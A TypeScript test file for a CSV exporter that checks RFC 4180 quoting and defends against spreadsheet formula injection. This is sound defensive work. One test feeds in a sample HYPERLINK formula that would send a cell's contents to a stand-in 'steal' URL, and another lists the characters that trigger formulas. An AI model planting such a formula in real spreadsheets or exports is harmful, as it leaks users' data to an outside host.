import { describe, expect, it } from 'vitest';
import { buildFramework } from '../../src/framework/index.ts';
import { CSV_COLUMNS, frameworkCsv, toCsv, UTF8_BOM } from '../../src/exports/index.ts';
import { exportSample } from './sample.ts';

/** A small RFC 4180 reader, to check that what we write reads back to the same fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') ((field += '"'), i++);
      else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') (row.push(field), (field = ''));
    else if (char === '\r' && text[i + 1] === '\n')
      (row.push(field), rows.push(row), (row = []), (field = ''), i++);
    else field += char;
  }
  return rows;
}

describe('toCsv', () => {
  it('quotes fields with commas, quotes and line breaks, doubling inner quotes (RFC 4180)', () => {
    expect(toCsv([['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 1.5]])).toBe(
      'plain,"a,b","say ""hi""","two\nlines","cr\rhere",1.5\r\n',
    );
  });

  it('ends every record, the last included, with CRLF', () => {
    expect(toCsv([['a'], ['b']])).toBe('a\r\nb\r\n');
  });
});

// OWASP "CSV Injection": a spreadsheet runs a cell that starts with one of these as a formula.
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('toCsv: formula injection', () => {
  it.each(TRIGGERS.map((c) => [JSON.stringify(c), c]))(
    'puts an apostrophe before text that starts with %s',
    (_, trigger) => {
      const text = `${trigger}SUM(A1:A9)`;
      expect(parseCsv(toCsv([[text]]))).toEqual([[`'${text}`]]);
    },
  );

  it('quotes a neutralised field when it needs quoting, apostrophe inside the quotes', () => {
    expect(toCsv([['=HYPERLINK("https://example.org","x")', '\rlate']])).toBe(
      '"\'=HYPERLINK(""https://example.org"",""x"")","\'\rlate"\r\n',
    );
  });

  it.each(TRIGGERS.map((c) => [JSON.stringify(c), c]))(
    'leaves text with %s later than the first character unchanged',
    (_, trigger) => {
      const text = `a${trigger}b`;
      expect(parseCsv(toCsv([[text]]))).toEqual([[text]]);
    },
  );

  it('leaves ordinary text, an empty field and a leading apostrophe or space unchanged', () => {
    expect(toCsv([['Explain AI', '', "'quoted", ' =1+1', '1-2']])).toBe("Explain AI,,'quoted, =1+1,1-2\r\n");
  });

  it('writes numbers as numbers, negative ones included: they are ours, not text', () => {
    expect(toCsv([[2.5, -1, 0, -0.25]])).toBe('2.5,-1,0,-0.25\r\n');
  });

  it('refuses a number that is not finite rather than write NaN or -Infinity', () => {
    expect(() => toCsv([[Number.NaN]])).toThrow(RangeError);
    expect(() => toCsv([[-Infinity]])).toThrow(RangeError);
  });

  it('reads back, with an RFC 4180 reader, as the neutralised values', () => {
    const row = ['=1+1', '+44 20', '-2', '@SUM(A1)', '\tx', '\r\nx', 'plain, "quoted"', 'a=b'];
    expect(parseCsv(toCsv([row, ['next']]))).toEqual([
      ["'=1+1", "'+44 20", "'-2", "'@SUM(A1)", "'\tx", "'\r\nx", 'plain, "quoted"', 'a=b'],
      ['next'],
    ]);
  });
});

describe('frameworkCsv', () => {
  const csv = frameworkCsv(buildFramework(exportSample()));

  it('starts with a UTF-8 byte order mark, then the header', () => {
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    expect(parseCsv(csv.slice(1))[0]).toEqual([...CSV_COLUMNS]);
  });

  it('has one row per competency and level it describes, lowest level first', () => {
    const rows = parseCsv(csv.slice(1)).slice(1);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    expect(rows.map((r) => `${r[col('competency_id')]}:${r[col('level_id')]}`)).toEqual([
      'use:low',
      'use:high',
      'basics:low',
      'procure:low',
      'procure:high',
    ]);
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
  });

  it('gives each level its outcomes, its hours from the level below and in all, and who needs it', () => {
    const rows = parseCsv(csv.slice(1)).slice(1);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const procureHigh = rows.find(
      (r) => r[col('competency_id')] === 'procure' && r[col('level_id')] === 'high',
    )!;
    expect(procureHigh[col('outcomes')]).toBe('procure high one\nprocure high two');
    expect([procureHigh[col('hours_from_level_below')], procureHigh[col('hours_to_this_level')]]).toEqual([
      '2',
      '3',
    ]);
    // Drivers need procure at high; Users at low, so only the low level is in their syllabus.
    expect(procureHigh[col('archetypes_needing_this_level')]).toBe('drivers');
    const procureLow = rows.find(
      (r) => r[col('competency_id')] === 'procure' && r[col('level_id')] === 'low',
    )!;
    expect(procureLow[col('archetypes_needing_this_level')]).toBe('drivers users');
    expect(procureLow[col('archetypes_whose_level_this_is')]).toBe('users');
  });

  it('writes a title that starts a formula as text, with an apostrophe', () => {
    const input = exportSample();
    const title = '=HYPERLINK("https://example.org/steal?d="&A1,"Click here")';
    input.competencies.find((c) => c.id === 'basics')!.title = title;
    const rows = parseCsv(frameworkCsv(buildFramework(input)).slice(1)).slice(1);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const basics = rows.find((r) => r[col('competency_id')] === 'basics')!;
    expect(basics[col('competency_title')]).toBe(`'${title}`);
    // The numeric columns are still plain numbers.
    expect([basics[col('level_rank')], basics[col('hours_to_this_level')]]).toEqual(['1', '1']);
  });

  it('reads back awkward titles exactly', () => {
    const titles = parseCsv(csv.slice(1)).map((r) => r[CSV_COLUMNS.indexOf('competency_title')]);
    expect(titles).toContain('Buy AI, "safely", with care');
    expect(titles).toContain('Two\nlines, and "quotes"');
  });
});
